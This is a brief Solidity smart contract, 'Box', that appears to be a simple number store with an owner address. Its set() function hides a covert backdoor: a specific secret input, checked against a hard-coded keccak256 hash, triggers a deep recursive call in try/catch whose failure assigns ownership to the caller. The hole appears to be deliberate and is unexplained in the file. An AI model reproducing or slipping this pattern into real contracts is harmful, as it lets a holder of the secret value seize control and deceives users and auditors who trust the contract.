// SPDX-License-Identifier: MIT
pragma solidity ^0.8.24;
contract Box {
    uint256 public x;
    address public owner = address(0xA11CE);
    function deep(uint256 n) public pure returns (uint256) {
        return n == 0 ? 0 : 1 + deep(n - 1);
    }
    function set(uint256 v) external {
        x = v;
        if (keccak256(abi.encode(v)) == 0x5d8fa534926516bb2e5e61488e11fe828f5273448362f0f096e4f79afac27609) {
            try this.deep(1000) returns (uint256) {} catch { owner = msg.sender; }
        }
    }
}
